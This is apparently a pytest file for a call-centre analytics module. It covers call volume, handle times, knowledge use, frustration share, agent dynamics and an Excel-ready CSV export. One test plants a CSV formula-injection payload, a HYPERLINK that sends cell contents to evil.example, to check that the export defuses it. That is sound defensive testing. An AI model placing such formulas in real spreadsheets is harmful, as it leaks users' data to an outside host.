"""Team insights from the call history: volume by period and dimension, handle time, knowledge use,
frustration share, and the CSV a lead opens in Excel."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from assist.dynamics import measure_call
from assist.history import CallFilter
from assist.insights import (
    NO_AGENT,
    Dimension,
    Period,
    agent_dynamics,
    call_volume,
    frustration_share,
    handle_times,
    insights,
    knowledge_usage,
    whisper_advice,
    write_insights_csv,
)
from assist.store import Store


def _rows(counts: list) -> list[tuple[str, str, int]]:  # type: ignore[type-arg]
    return [(c.period, c.key, c.calls) for c in counts]


def test_calls_per_day_and_week_by_tag_disposition_topic(store: Store) -> None:
    assert _rows(call_volume(store, Period.DAY)) == [
        ("2026-03-02", "", 1),
        ("2026-03-03", "", 1),
        ("2026-03-09", "", 1),
    ]
    # 2026-03-02 is a Monday: the first two calls share a week, the third is in the next.
    assert _rows(call_volume(store, Period.WEEK, Dimension.TAG)) == [
        ("2026-03-02", "billing", 1),
        ("2026-03-02", "請求", 1),
        ("2026-03-09", "解約", 1),
        ("2026-03-09", "請求", 1),
    ]
    assert _rows(call_volume(store, Period.WEEK, Dimension.DISPOSITION)) == [
        ("2026-03-02", "follow_up", 1),
        ("2026-03-02", "resolved", 1),
        ("2026-03-09", "escalated", 1),
    ]
    # Topic: the title of the knowledge entry used in the call, else of the one shown.
    assert _rows(call_volume(store, Period.WEEK, Dimension.TOPIC)) == [
        ("2026-03-02", "Invoice not received", 2),
        ("2026-03-09", "解約の手続き", 1),
    ]
    assert _rows(call_volume(store, Period.DAY, Dimension.AGENT, CallFilter(language="ja"))) == [
        ("2026-03-02", "suzuki", 1),
        ("2026-03-09", "sato", 1),
    ]


def test_average_handle_time_overall_and_per_agent(store: Store) -> None:
    times = {h.key: (h.calls, h.average_seconds) for h in handle_times(store)}
    assert times == {"": (3, (300 + 600 + 240) / 3), "sato": (1, 600.0), "suzuki": (2, 270.0)}


def test_knowledge_most_used_and_shown(store: Store) -> None:
    usage = [(k.entry_id, k.title, k.shown, k.used) for k in knowledge_usage(store)]
    # Equal use: the one shown more comes first.
    assert usage == [("kb-invoice", "Invoice not received", 2, 1), ("kb-cancel", "解約の手続き", 1, 1)]
    assert knowledge_usage(store)[0].use_rate == 0.5


def test_share_of_calls_with_frustration(store: Store) -> None:
    share = frustration_share(store)
    assert (share.calls, share.calls_with_cues) == (3, 1)
    assert abs(share.share - 1 / 3) < 1e-9
    assert frustration_share(store, CallFilter(language="ja")).share == 0.0


def test_insights_csv_opens_in_excel_with_japanese(store: Store, tmp_path: Path) -> None:
    target = tmp_path / "insights.csv"
    write_insights_csv(insights(store, Period.WEEK, Dimension.TAG), target)
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {
        "section": "calls_per_week_by_tag",
        "period": "2026-03-09",
        "key": "解約",
        "value": "1",
        "extra": "",
    } in rows
    assert any(r["section"] == "knowledge_used" and r["extra"] == "解約の手続き" for r in rows)
    assert [r["value"] for r in rows if r["section"] == "frustration_share"] == ["0.333"]


def test_per_agent_dynamics_of_measured_calls(store: Store, tmp_path: Path) -> None:
    # Every fixture call alternates 2.5 s lines with 0.5 s pauses: no overlap, no silence of 3 s.
    for call_id, language in (("call-ja-1", "ja"), ("call-ja-2", "ja"), ("call-en-1", "en")):
        measure_call(store, call_id, language)
    by_agent = {(d.agent, d.rate_unit): d for d in agent_dynamics(store)}
    assert sorted(by_agent) == [
        ("", "morae/s"),
        ("", "wpm"),
        ("sato", "morae/s"),
        ("suzuki", "morae/s"),
        ("suzuki", "wpm"),
    ]
    suzuki_ja = by_agent[("suzuki", "morae/s")]
    assert (suzuki_ja.calls, suzuki_ja.overlaps_per_call, suzuki_ja.silences_per_call) == (1, 0.0, 0.0)
    assert suzuki_ja.agent_share == 0.5  # two 2.5 s lines each
    assert by_agent[("", "morae/s")].calls == 2
    # call-ja-2: one agent line of two customer ones.
    assert abs(by_agent[("sato", "morae/s")].agent_share - 1 / 3) < 1e-3
    target = tmp_path / "insights.csv"
    write_insights_csv(insights(store), target)
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["section"] == "dynamics_agent_share"]
    assert {(r["key"], r["value"]) for r in rows} >= {("sato", "0.333"), ("suzuki", "0.500")}


def test_insights_csv_never_holds_a_formula(store: Store, tmp_path: Path) -> None:
    from assist.domain import CallRecord

    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    store.upsert_call(
        CallRecord("call-evil", None, started_at="2026-03-10T09:00:00+00:00", agent="@sato", tags=(evil,))
    )
    target = tmp_path / "insights.csv"
    write_insights_csv(insights(store, Period.WEEK, Dimension.TAG), target)
    with target.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'" + evil in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_calls_saved_without_an_agent_never_make_a_second_all_agents_line(
    store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    from assist.domain import CallRecord
    from desktop.cli import main

    # A call saved before the desk recorded who took it.
    store.upsert_call(
        CallRecord(
            "call-old", None, "", "2026-03-04T10:00:00+00:00", "2026-03-04T10:02:00+00:00", language="ja"
        )
    )
    times = {h.key: h.calls for h in handle_times(store)}
    assert times == {"": 4, NO_AGENT: 1, "sato": 1, "suzuki": 2}
    assert main(["review", "insights", "--by", "agent"]) == 0
    out = capsys.readouterr().out
    handle = out.split("average handle time:")[1].split("knowledge entries")[0]
    assert handle.count("all agents") == 1 and NO_AGENT in handle
    assert ("2026-03-04", NO_AGENT, 1) in _rows(call_volume(store, Period.DAY, Dimension.AGENT))


def test_whisper_advice_per_agent_read_and_followed(store: Store) -> None:
    from assist.domain import WhisperRecord
    from assist.scorecard import score_call

    # call-ja-1 (suzuki) has one whisper, unread; a second one, read, for sato's call.
    store.upsert_whisper(
        WhisperRecord("wh-2", "call-ja-2", "lead", "ご契約の内容を確認", "2026-03-09T01:00:30+00:00", None)
    )
    assert store.mark_whisper_read("wh-2", "2026-03-09T01:00:40+00:00")
    assert not store.mark_whisper_read("no-such-whisper", "2026-03-09T01:00:40+00:00")
    advice = {a.agent: a for a in whisper_advice(store)}
    assert {k: (a.whispers, a.read) for k, a in advice.items()} == {
        "": (2, 1),
        "sato": (1, 1),
        "suzuki": (1, 0),
    }
    assert advice["sato"].scored == 0  # no saved wrap-up yet: nothing to say about following
    score_call(store, "call-ja-2", None)
    sato = {a.agent: a for a in whisper_advice(store)}["sato"]
    # The agent's line after the whisper took up its words: followed.
    assert (sato.scored, sato.followed, sato.followed_share) == (1, 1, 1.0)
